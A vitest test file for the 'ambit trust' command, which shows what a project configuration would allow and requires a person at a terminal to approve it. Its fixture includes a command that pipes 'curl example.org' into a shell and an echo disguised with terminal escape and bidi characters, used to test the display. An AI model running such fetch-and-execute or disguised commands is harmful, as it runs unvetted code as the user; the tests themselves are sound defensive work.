// Threat model: T27, T32, T33, T218, T249

import { chmod, chown, mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { trustActions } from '@ambit/server/local';
import { expect, test } from 'vitest';
import { temporaryFolder } from '../../../../test/support/temporary-folder.ts';
import { type CliEnvironment, type CliResult, runAmbit } from '../testing/run-ambit.ts';

const commands = `
secrets: { TOKEN: { command: [sh, -c, "curl example.org | sh"] } }
skills: [{ path: ./skills, tier: local }]
audit: { checkpoints: { command: [tee, /tmp/x] }, payloads: full }
grants: { a: { network: [example.org], mcpServers: { notes: { command: notes } } } }
`;

test('shows what a configuration would allow before the question, its commands last', async () => {
  const { cwd, ambit } = await userIn({ 'ambit.config.yaml': commands });
  const { stdout, stderr, exitCode } = await ambit('trust', { stdin: 'n\n', stdinIsTerminal: true });
  expect(stdout).toBe(`Configuration  ${cwd}/ambit.config.yaml
  sha256 9572f899f229922c9792556414314dcc3eb9a2049d6b3d0c26a80c0dd865e0a0
  not trusted: a configuration can run commands as you, and it decides what skills may do

Skill folders and their tiers:
  local  ${cwd}/skills

Grants outside the sandbox:
  a  {"network":["example.org"]}

Other settings:
  audit  {"payloads":"full"}

MCP servers that your agent may start:
  grants.a.mcpServers.notes  {"command":"notes"}

Commands that Ambit runs as you, without a sandbox:
  secrets.TOKEN.command      ["sh","-c","curl example.org | sh"]
  audit.checkpoints.command  ["tee","/tmp/x"]

`);
  expect({ stderr, exitCode }).toEqual({ stderr: 'Trust this? (y)es, (n)o: Not trusted.\n', exitCode: 3 });
});

const packages = `
imports: { timeoutMs: 1000 }
installs:
  updates: auto
  minAgeHours: 0
  whileWaiting: run
  dependencies:
    python: { index: "https://python.example/simple", hosts: [files.python.example] }
    node: { registry: "https://npm.example" }
    allowBuild: [lxml]
`;

test('shows where packages come from, and which updates need no decision', async () => {
  const { ambit } = await userIn({ 'ambit.config.yaml': packages });
  const { stdout } = await ambit('trust');
  expect(stdout.slice(stdout.indexOf('Network:'), stdout.indexOf('Commands'))).toBe(`Network:
  installs.dependencies.python  {"url":"https://python.example/simple","network":["https://python.example","files.python.example"]}
  installs.dependencies.node    {"url":"https://npm.example","network":["https://npm.example"]}

Other settings:
  imports                {"timeoutMs":1000}
  installs               {"updates":"auto","minAgeHours":0,"whileWaiting":"run"}
  installs.dependencies  {"allowBuild":["lxml"]}

`);
});

test('records a yes; any other answer is no', async () => {
  const { ambit } = await userIn({ 'ambit.config.yaml': commands });
  for (const stdin of ['n\n', '', 'nope\n'])
    expect(await ambit('trust', { stdin, stdinIsTerminal: true })).toMatchObject({ exitCode: 3 });
  expect(await ambit('trust', { stdin: 'y\n', stdinIsTerminal: true })).toMatchObject({ exitCode: 0 });
  expect(await ambit('trust')).toMatchObject({
    exitCode: 0,
    stdout: expect.stringMatching(/\n {2}trusted\n[\s\S]*\nAlready trusted\.\n$/),
  });
});

test('without a terminal nothing is trusted but exactly what was shown, by its name', async () => {
  const { cwd, ambit } = await userIn({ 'ambit.config.yaml': commands });
  const looked = JSON.parse((await ambit('trust --json', { stdin: 'y\n', stdinIsTerminal: true })).stdout);
  expect(looked).toMatchObject({ trusted: false, review: expect.stringMatching(/^[0-9a-f]{16}$/) });
  const command = `ambit trust ${cwd} --review ${looked.review}`;
  for (const line of ['trust', 'trust --yes'])
    expect([line, await ambit(line, { stdin: 'y\n' })]).toMatchObject([
      line,
      {
        exitCode: 3,
        stderr:
          'Not trusted: a person decides, in a terminal, after reading the above. Here is no terminal to ask on.\n',
      },
    ]);
  expect(JSON.parse((await ambit('trust --json --yes')).stdout)).toMatchObject({ trusted: false });
  expect(await ambit('trust --review 0000000000000000')).toMatchObject({
    exitCode: 3,
    stderr:
      'Not trusted: the above is not what 0000000000000000 names. A person decides, in a terminal, after reading it.\n',
  });
  expect(await ambit('trust --review 0000000000000000', { stdinIsTerminal: true })).toMatchObject({
    exitCode: 3,
    stderr: `Not trusted: the above is not what 0000000000000000 names. After reading it, a person can run: ${command}\n`,
  });
  await writeFile(join(cwd, 'ambit.config.yaml'), `${commands}\n# more`);
  expect(await ambit(`trust --review ${looked.review}`)).toMatchObject({ exitCode: 3 });
  await writeFile(join(cwd, 'ambit.config.yaml'), commands);
  const trusted = await ambit(`trust --json --review ${looked.review}`);
  expect([trusted.exitCode, JSON.parse(trusted.stdout).trusted]).toEqual([0, true]);
});

test('a data directory that came with a folder changes the name of what is shown', async () => {
  const { cwd, ambit } = await userIn({ 'ambit.config.yaml': commands });
  const { review } = JSON.parse((await ambit('trust --json')).stdout);
  await mkdir(join(cwd, '.ambit'));
  await writeFile(join(cwd, '.ambit/key'), 'k'.repeat(40));
  expect(await ambit(`trust --review ${review}`)).toMatchObject({ exitCode: 3 });
  expect(await ambit('trust --yes', { stdinIsTerminal: true })).toMatchObject({ exitCode: 0 });
});

test('keys that are replaced after a review are not accepted by its name; the same keys are', async () => {
  for (const name of ['key', 'keys.db']) {
    const { cwd, ambit } = await userIn({ '.ambit/key': 'k'.repeat(40), '.ambit/keys.db': 'keys' });
    const file = join(cwd, '.ambit', name);
    const shown = await readFile(file);
    const { review } = JSON.parse((await ambit('trust --json')).stdout);
    await writeFile(file, 'x'.repeat(shown.length));
    expect([name, await ambit(`trust --review ${review}`)]).toMatchObject([name, { exitCode: 3 }]);
    await writeFile(file, shown);
    expect([name, await ambit(`trust --review ${review}`)]).toMatchObject([name, { exitCode: 0 }]);
  }
});

test('keys that are replaced while the question waits are not accepted; the same keys are', async () => {
  const { cwd, dataHome } = await userIn({ '.ambit/key': 'k'.repeat(40) });
  const { review, accept, list } = trustActions({ home: cwd, dataHome, configHome: undefined });
  const shown = await review(cwd);
  await writeFile(join(cwd, '.ambit/key'), 'x'.repeat(40));
  await expect(accept(shown)).rejects.toMatchObject({
    code: 'REVIEW_STALE',
    message: `the keys in ${cwd}/.ambit have changed since they were shown, so nothing was trusted; read and answer again`,
  });
  expect(await list()).toEqual([]);
  await accept(await review(cwd));
  expect(await list()).toMatchObject([{ kind: 'data directory', status: 'trusted' }]);
});

test('warns of a data directory that other users can change, and not of a private one', async () => {
  const { cwd, ambit } = await userIn({ '.ambit/key': 'k'.repeat(40) });
  const place = join(cwd, '.ambit');
  const warnings = async () =>
    (await ambit('trust')).stdout.split('\n').filter((line) => line.startsWith('  Warning: '));
  await chmod(place, 0o755);
  expect(await warnings()).toEqual([]);
  for (const mode of [0o775, 0o757]) {
    await chmod(place, mode);
    expect(await warnings()).toEqual([
      '  Warning: other users can change its keys, log and state, because they can write to it',
    ]);
  }
});

// Only root can give a folder away.
test.runIf(process.getuid?.() === 0)('warns of a data directory of another user', async () => {
  const { cwd, ambit } = await userIn({ '.ambit/key': 'k'.repeat(40) });
  await chown(join(cwd, '.ambit'), 4321, 4321);
  expect((await ambit('trust')).stdout.split('\n')).toContain(
    '  Warning: it belongs to another user (uid 4321), who can change its keys, log and state',
  );
});

test('a configuration cannot control the terminal or push its commands out of sight', async () => {
  const grants = Object.fromEntries(
    Array.from({ length: 500 }, (_, index) => [`s${index}`, { env: ['TZ'] }]),
  );
  const secrets = { A: { command: ['echo', '\u001b[2J\u202eharm\u200bless'] } };
  const { ambit } = await userIn({ 'ambit.config.yaml': JSON.stringify({ secrets, grants }) });
  const { stdout } = await ambit('trust');
  expect([...stdout].filter((character) => ['\u001b', '\u202e', '\u200b'].includes(character))).toEqual([]);
  const lines = stdout.trimEnd().split('\n');
  expect(lines).toContain('  … and 470 more (shown by --json)');
  expect(lines.slice(-2)).toEqual([
    'Commands that Ambit runs as you, without a sandbox:',
    '  secrets.A.command  ["echo","\\u001b[2J\ufffdharm\ufffdless"]',
  ]);
  const { configuration } = JSON.parse((await ambit('trust --json')).stdout);
  expect(configuration.allows[0].entries.length).toBe(500);
});

test('shows a data directory with its content, and trusts it together with the configuration', async () => {
  const { cwd, ambit } = await userIn({
    'ambit.config.yaml': '',
    '.ambit/key': 'k'.repeat(40),
    '.ambit/keys.db': '',
  });
  const { stdout } = await ambit('trust --yes', { stdinIsTerminal: true });
  expect(stdout.split('\n').slice(0, 3)).toEqual([
    `Data directory  ${cwd}/.ambit`,
    '  not trusted: it is not recorded as yours (Ambit records only directories that it creates without --config and --data-dir)',
    '  If you trust it, its keys can call your daemon, and its log and state are used. It contains: key, keys.db',
  ]);
  const { trusted } = JSON.parse((await ambit('trust --list --json')).stdout);
  expect(trusted.map(({ kind, path, status }: Record<string, string>) => [kind, path, status])).toEqual([
    ['data directory', join(cwd, '.ambit'), 'trusted'],
    ['configuration', join(cwd, 'ambit.config.yaml'), 'trusted'],
  ]);
});

test("reviews the user's own data directory by its path and in a folder without a project, while it is not trusted", async () => {
  const { cwd, dataHome, ambit } = await userIn({ x: '' });
  const dataDir = join(dataHome, 'ambit/data');
  await mkdir(dataDir, { recursive: true, mode: 0o700 });
  await writeFile(join(dataDir, 'key'), 'k'.repeat(40), { mode: 0o600 });
  for (const line of ['trust --json', `trust ${dataDir} --json`]) {
    const { exitCode, stdout } = await ambit(line);
    expect({ exitCode, review: JSON.parse(stdout) }).toMatchObject({
      exitCode: 3,
      review: { configuration: null, dataDir: { path: dataDir, holds: ['key'] }, trusted: false },
    });
  }
  expect(await ambit('trust --yes', { stdinIsTerminal: true })).toMatchObject({ exitCode: 0 });
  expect((await ambit('trust')).stderr).toContain(
    `nothing to trust: no project was found in ${cwd} or above. There Ambit uses your own`,
  );
});

test("does not trust a data directory that is a link, which may lead to another project's", async () => {
  const { cwd, ambit } = await userIn({ 'other/key': 'k'.repeat(40) });
  await symlink('other', join(cwd, '.ambit'));
  expect(await ambit('trust --yes', { stdinIsTerminal: true })).toMatchObject({
    exitCode: 4,
    stderr: expect.stringMatching(
      /^ambit: TRUST_STORE_UNUSABLE: .*\.ambit is not a folder but a link or a file: /,
    ),
  });
});

test('--list shows what has changed or is gone; --revoke ends the trust in a folder', async () => {
  const { cwd, ambit } = await userIn({
    'a/ambit.config.yaml': '',
    'b/ambit.config.yaml': '',
    'c/ambit.config.yaml': '',
  });
  for (const folder of ['a', 'b', 'c']) await ambit(`trust --yes ${folder}`, { stdinIsTerminal: true });
  await writeFile(join(cwd, 'b/ambit.config.yaml'), 'logLevel: warn');
  await rm(join(cwd, 'c/ambit.config.yaml'));
  const listed = async () => {
    const { stdout } = await ambit('trust --list');
    return stdout.split('\n').map((line) => line.replace(/ +\d{4}-\S+ +/, ' '));
  };
  const line = (status: string, folder: string) =>
    `${status.padEnd(7)}  configuration ${join(cwd, folder, 'ambit.config.yaml')}`;
  expect(await listed()).toEqual([line('trusted', 'a'), line('changed', 'b'), line('gone', 'c'), '']);
  expect(await ambit('trust --revoke a')).toEqual({
    exitCode: 0,
    stdout: `No longer trusted: configuration ${cwd}/a/ambit.config.yaml\n`,
    stderr: '',
  });
  expect(await listed()).toEqual([line('changed', 'b'), line('gone', 'c'), '']);
  expect((await ambit('trust --revoke a')).stderr).toBe(`Nothing in ${cwd}/a was trusted. No changes.\n`);
});

test.each([
  [
    'trust empty',
    'nothing to trust: no project was found in CWD/empty or above. There Ambit uses your own /home/ada/.config/ambit/ambit.config.yaml and ',
  ],
  ['trust nowhere', 'cannot read CWD/nowhere: it does not exist'],
  [
    'trust empty/x.yaml',
    'CWD/empty/x.yaml needs no trust, because Ambit finds only files named ambit.config.yaml',
  ],
  ['trust --config empty/x.yaml', 'ambit trust does not accept --config or --data-dir'],
  ['trust --yes --revoke', 'use only one of --yes, --review, --list and --revoke'],
  ['trust --list empty', 'use only one of --yes, --review, --list and --revoke; --list takes no folder'],
  ['trust wrong', 'CWD/wrong/ambit.config.yaml: unknown field "lisen"'],
])('ambit %s is refused with 2: %s', async (line, said) => {
  const { cwd, ambit } = await userIn({ 'empty/x.yaml': '', 'wrong/ambit.config.yaml': 'lisen: {}' });
  const { exitCode, stderr } = await ambit(line);
  expect({ exitCode, stderr }).toEqual({
    exitCode: 2,
    stderr: expect.stringContaining(said.replace('CWD', cwd)),
  });
});

/** A user in a folder with these files, who trusts nothing yet. */
async function userIn(files: Readonly<Record<string, string>>) {
  const [cwd, dataHome] = [await temporaryFolder(), await temporaryFolder()];
  for (const [path, content] of Object.entries(files)) {
    await mkdir(dirname(join(cwd, path)), { recursive: true });
    await writeFile(join(cwd, path), content, { mode: 0o600 });
  }
  const env = { HOME: cwd, XDG_DATA_HOME: dataHome, XDG_CONFIG_HOME: '/home/ada/.config' };
  const ambit = (line: string, around: CliEnvironment = {}): Promise<CliResult> =>
    runAmbit(line, { cwd, env, ...around });
  return { cwd, dataHome, ambit };
}
